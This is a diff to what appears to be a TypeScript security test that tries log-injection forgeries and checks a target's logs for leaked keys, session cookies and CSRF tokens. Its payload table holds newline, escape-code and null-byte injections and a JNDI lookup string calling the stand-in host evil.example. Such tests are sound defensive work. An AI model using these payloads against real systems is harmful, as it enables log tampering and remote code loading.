@@ -2,17 +2,17 @@ import assert from 'node:assert/strict';
 import { type Attempt, attemptsOf, type Kind } from '../kind.ts';
 
 const FORGED_LINES: Record<string, string> = {
-  'a line of its own': '\n{"level":50,"msg":"FORGED"}',
+  'a separate line': '\n{"level":50,"msg":"FORGED"}',
   'a carriage return': '\r{"level":50,"msg":"FORGED"}',
   'the end of a text': '","level":50,"msg":"FORGED","x":"',
-  'colours of a terminal': '\u001b[2J\u001b[31mFORGED',
+  'terminal colours': '\u001b[2J\u001b[31mFORGED',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
   'a look-up': '${jndi:ldap://evil.example/FORGED}',
   'a null byte': '\u0000FORGED',
 };
 
 export const forgedLogs: Kind = {
-  name: 'log: lines forged, secrets told',
+  name: 'log: forged lines, leaked secrets',
   inTurn: true,
   attempts: (target) => {
     const forged = attemptsOf<string, (text: string) => Promise<unknown>>(
@@ -47,7 +47,7 @@ export const forgedLogs: Kind = {
     const secrets: [string, () => string][] = [
       ['a key', () => target.victim.key],
       ['a session', () => target.victim.session.cookie.split('=')[1] ?? ''],
-      ['a token against forgery', () => target.victim.session.csrf],
+      ['a CSRF token', () => target.victim.session.csrf],
       ['the password of the owner', () => 'a sentence to remember'],
     ];
     const leaked = secrets.map(
